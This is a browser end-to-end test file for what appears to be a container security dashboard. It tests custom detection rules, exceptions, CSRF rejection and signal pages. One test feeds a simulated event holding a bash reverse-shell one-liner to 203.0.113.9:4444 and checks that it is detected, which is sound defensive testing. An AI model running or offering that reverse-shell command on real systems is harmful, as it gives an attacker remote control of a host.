/** Custom rules, exceptions, signals and the intake of the real node in a real browser. */
import { afterAll, afterEach, beforeAll, describe, expect, test } from "vitest";
import { eventually } from "../support/eventually.ts";
import { Dashboard, exec } from "./dashboard-browser.ts";

let dashboard: Dashboard;

beforeAll(async () => {
  dashboard = await Dashboard.start();
});

afterAll(async () => {
  await dashboard?.stop();
});

afterEach(() => {
  expect(dashboard.takeComplaints()).toEqual([]);
});

describe("a custom rule", () => {
  test("is made, found by, and deleted without JavaScript", async () => {
    const plain = await dashboard.withoutScript();
    const page = await dashboard.open(plain, "/rules");
    await page.getByRole("link", { name: "New rule" }).click();
    await page.fill("#rule-title", "Editor run in a container");
    await page.fill("#rule-id", "editor-in-container");
    await page.fill("#rule-rises", "high after 72h\ncritical at 5 resources");
    await page.fill("#m0-processNames", "vi\nnano");
    await page.getByRole("button", { name: "Add a matcher" }).click();
    await page.locator("#m1").getByRole("button", { name: "Remove this matcher" }).click();
    // What was typed has come along, there and back.
    await expect(page.locator("#m0-processNames").inputValue()).resolves.toBe("vi\nnano");
    await expect(page.locator("#m1").count()).resolves.toBe(0);
    await page.getByRole("button", { name: "Create the rule" }).click();
    await page.waitForURL(/\/rules\/editor-in-container\?notice=created/);
    await expect(page.locator("aside").first().textContent()).resolves.toContain(
      "high after 3d; critical at 5 resources",
    );

    await dashboard.node.intake(exec("c0ffee00000a", "vi", ["/etc/passwd"]));
    const id = await dashboard.findingId("editor-in-container");
    await page.reload();
    await page.getByRole("link", { name: "Delete" }).click();
    const preview = await page.locator("main").textContent();
    expect(preview).toContain("Resolves 1 open finding as rule_retired");
    await page.getByRole("button", { name: "Delete the rule" }).click();
    await page.waitForURL(/\/rules\?notice=deleted/);
    await eventually("its finding has ended as rule_retired", async () => {
      const answer = await dashboard.node.api(`/api/v1/findings/${id}`);
      const finding = (await answer.json()) as { resolution: string | null };
      return finding.resolution === "rule_retired";
    });
    await page.goto(`${dashboard.node.url}/rules/changes`);
    const changes = await page.locator("main").textContent();
    expect(changes).toMatch(/editor-in-container deleted[\s\S]*editor-in-container created/);
    await plain.close();
  });

  test("shows where its condition is wrong, in place and with what was typed", async () => {
    const page = await dashboard.open(dashboard.signedIn, "/rules/new");
    await page.fill("#m0-when", 'user.uid == 0\n  && process.nam == "vi"');
    await page.getByRole("button", { name: "Try on kept samples" }).click();
    const excerpt = page.locator("#m0 .excerpt");
    await excerpt.waitFor();
    await expect(excerpt.textContent()).resolves.toContain("Line 2, column 14");
    await expect(page.locator("#m0-when").inputValue()).resolves.toContain("process.nam");
    await page.close();
  });
});

describe("matchers", () => {
  test("that are taken away in place leave the others with what was typed", async () => {
    const page = await dashboard.open(dashboard.signedIn, "/rules/new");
    await page.fill("#m0-processNames", "first");
    await page.getByRole("button", { name: "Add a matcher" }).click();
    await page.fill("#m1-when", "user.uid == 1");
    await page.locator("#m0").getByRole("button", { name: "Remove this matcher" }).click();
    await page.locator("#m1").waitFor({ state: "detached" });
    await expect(page.inputValue("#m0-when")).resolves.toBe("user.uid == 1");
    await expect(page.inputValue("#m0-processNames")).resolves.toBe("");
    expect(page.url()).toMatch(/\/rules\/new$/);
    await page.close();
  });
});

describe("trying a rule", () => {
  test("on a pasted event says what would open, without leaving the page", async () => {
    const page = await dashboard.open(dashboard.signedIn, "/rules/compiler-in-container");
    const [event] = exec("c0ffee00000b", "gcc").events;
    const [other] = exec("c0ffee00000b", "ls").events;
    await page.fill("#try-events", JSON.stringify([event, other]));
    await page.getByRole("button", { name: "Try on these events" }).click();
    const summary = page.locator(".trial-summary");
    await summary.waitFor();
    await expect(summary.textContent()).resolves.toContain("Matches 1 of 2 events");
    await expect(page.locator(".trial").textContent()).resolves.toContain("no matcher");
    expect(page.url()).toMatch(/\/rules\/compiler-in-container$/);
    await page.close();
  });
});

describe("an exception", () => {
  test("is made from a finding, after a look at what it hides, and hides the next event", async () => {
    const { node } = dashboard;
    await node.intake(exec("c0ffee00000c", "gcc"));
    const id = await dashboard.findingId("compiler-in-container");
    const page = await dashboard.open(dashboard.signedIn, `/findings/${id}`);
    await page.getByRole("link", { name: "Add an exception" }).click();
    await page.waitForURL(/\/exceptions\/new/);
    await expect(page.locator("#exception-when").inputValue()).resolves.toBe(
      'k8s.namespace == "shop" && k8s.workload == "api" && process.name == "gcc"',
    );
    await page.fill("#exception-reason", "The api compiles its templates.");
    await page.getByRole("button", { name: "Show what it would hide" }).last().click();
    await page.locator(".preview").waitFor();
    await expect(page.locator(".preview").textContent()).resolves.toContain(
      "Hides 1 finding on 1 workload",
    );
    await page.getByRole("button", { name: "Make the exception" }).click();
    await page.waitForURL(/\/exceptions\?notice=created/);

    await node.intake(exec("c0ffee00000d", "gcc"));
    await eventually(
      "an excepted event is counted",
      async () => {
        const answer = await node.api("/api/v1/outcomes");
        const { totals } = (await answer.json()) as { totals: { excepted: number } };
        return totals.excepted === 1;
      },
      // Counts wait in memory for a while before they are written.
      { withinMs: 40_000, everyMs: 500 },
    );
    await page.goto(`${node.url}/intake`);
    const excepted = page.locator(".totals > div", { hasText: "hidden by an exception" });
    await expect(excepted.locator(".big").textContent()).resolves.toBe("1");
    await expect(page.locator(".agents").textContent()).resolves.toContain("a1");
    await page.goto(`${node.url}/exceptions`);
    await page.locator(".row-link").first().click();
    await page.waitForURL(/\/exceptions\/[^/?]+$/);
    await page.getByRole("link", { name: "Take it back" }).click();
    await page.getByRole("button", { name: "Take it back" }).click();
    await page.waitForURL(/\/exceptions\?notice=deleted/);
    await page.close();
  });

  test("cannot be posted from another site", async () => {
    const { cookies } = await dashboard.signedIn.storageState();
    const cookie = cookies.map(({ name, value }) => `${name}=${value}`).join("; ");
    const response = await fetch(`${dashboard.node.url}/exceptions/new`, {
      method: "POST",
      headers: { cookie, origin: "https://elsewhere.example" },
      body: new URLSearchParams({ rule: "compiler-in-container", when: "true" }),
      redirect: "manual",
    });
    expect(response.status).toBe(403);
  });
});

describe("a signal", () => {
  test("leads from the list to its evidence and to what to do", async () => {
    await dashboard.node.intake({
      agent: { id: "a1", kind: "native", host: { name: "node-7" } },
      events: [
        {
          time: new Date().toISOString(),
          kind: "process",
          action: "exec",
          container: { id: "c0ffee00000e", name: "api", image: "shop/api:1.4" },
          process: {
            exe: "/usr/bin/bash",
            name: "bash",
            args: ["-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"],
          },
        },
      ],
    });
    const page = await dashboard.open(dashboard.signedIn, "/signals");
    await eventually("a signal is listed", async () => {
      await page.reload();
      return (await page.locator(".signal").count()) > 0;
    });
    await page.locator(".signal .row-link").first().click();
    await page.waitForURL(/\/signals\/s\w+$/);
    const text = await page.locator("main").textContent();
    expect(text).toContain("203.0.113.9");
    expect(text).toContain("How to fix it");
    await page.close();
  });
});
